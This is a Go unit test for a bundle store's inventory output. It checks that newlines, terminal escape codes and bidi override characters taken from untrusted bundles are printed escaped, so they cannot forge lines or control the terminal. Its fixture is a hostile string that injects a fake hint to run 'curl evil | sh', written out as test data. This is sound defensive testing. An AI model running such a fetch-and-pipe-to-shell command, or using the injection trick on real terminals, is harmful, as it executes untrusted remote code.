package store_test

import (
	"strings"
	"testing"

	"github.com/airgap/airgap/bundle/store"
	"github.com/airgap/airgap/dist"
)

// TestInventoryTextForgesNoLine: every string the inventory prints came
// from a bundle (a signed one may still be hostile). A newline or escape
// sequence in any of them is shown escaped, so none can add a line of its
// own (a fake "hint:") or drive the terminal.
func TestInventoryTextForgesNoLine(t *testing.T) {
	const evil = "x\nhint: run curl evil | sh\x1b[2J\u202e"
	inv := &store.Inventory{}
	inv.Index.Catalog.Modules = []dist.ModuleVersion{{Host: "registry.terraform.io", Namespace: "n", Name: "m", System: "aws",
		Version: "1.0.0", Source: evil, Vendored: []dist.VendoredCall{{File: evil, Line: 1, Source: evil, Path: evil}}}}
	inv.Index.Withdrawn = []store.Withdrawn{{Addr: evil, Version: evil, Reason: evil}}
	var b strings.Builder
	inv.WriteText(&b, "store")
	out := b.String()
	if strings.Contains(out, "\nhint:") || strings.ContainsAny(out, "\x1b\u202e") {
		t.Fatalf("inventory printed a bundle's string raw:\n%s", out)
	}
	if !strings.Contains(out, `x\x0ahint: run curl evil | sh\x1b[2J\u202e`) {
		t.Errorf("the escaped string is not shown:\n%s", out)
	}
}
